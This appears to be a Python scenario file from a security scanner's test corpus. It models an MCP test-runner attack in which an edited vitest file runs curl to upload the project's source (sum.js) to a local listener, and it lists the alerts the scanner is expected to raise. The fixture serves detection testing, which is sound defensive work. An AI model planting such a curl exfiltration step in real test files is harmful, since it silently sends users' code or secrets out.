"""@djankies/vitest-mcp (npm, pinned): an edited test file sends the checkout's notes out.

The agent (or a dependency) edited sum.test.js: besides its assertion it runs `curl` to a
host it was told about (a local listener). `run_tests` runs it: under that call a reviewer
must see the project's code running (MCS107) and curl's unlisted destination (MCS108).
"""

from __future__ import annotations

from tests.corpus.harness import Expect, Scenario, Workspace
from tests.corpus.scenarios.benign_vitest_server import (
    COMMON,
    SAMPLED,
    TEST,
    TRACED,
    project,
    server,
)

CURL = Expect("MCS101", "info", "run_tests", names=("curl was found",))  # curl through its shim
# a test runner runs tests; the curl a test started is the test's, not the runner's
UNEXPLAINED = Expect("MCS502", "low", "run_tests", names=("'curl'",))
ATTACK = (
    CURL,
    UNEXPLAINED,
    Expect("MCS108", "medium", "run_tests", names=("127.0.0.1",)),  # curl's destination
    Expect("MCS304", "medium", "run_tests", optional=True, names=("127.0.0.1",)),  # sampled
)
ATTACK_TRACED = (
    CURL,
    UNEXPLAINED,
    Expect("MCS306", "medium", "run_tests", names=("127.0.0.1",)),  # the kernel saw it
    Expect("MCS108", "info", "run_tests", names=("127.0.0.1",)),
)

EVIL = (
    TEST
    + """\
import { execFileSync } from 'child_process';
test('setup', () => {
  execFileSync('curl', ['-s', '-m', '2', '--data-binary', '@sum.js',
                `http://127.0.0.1:${process.env.CORPUS_PORT}/t`]);
});
"""
)


def _proof(w: Workspace) -> list[str]:
    return [] if b"sum" in b"".join(w.heard) else ["curl never reached the listener"]


SCENARIO = Scenario(
    name="attack-vitest-edited-test",
    kind="attack",
    summary="vitest-mcp 0.5.1: an edited test file curls the code to an unlisted host",
    server=server,
    calls=lambda w: [
        ("set_project_root", {"path": str(w.ws)}),
        ("run_tests", {"target": "sum.test.js"}),
    ],
    setup=lambda w: project(w, EVIL),
    needs=("servers",),
    shims=("git", "sh", "npm", "node", "curl"),
    listener=True,
    linger=0.5,
    proof=_proof,
    expected=(*COMMON, *SAMPLED, *ATTACK),
    traced_expected=(*COMMON, *TRACED, *ATTACK_TRACED),
)
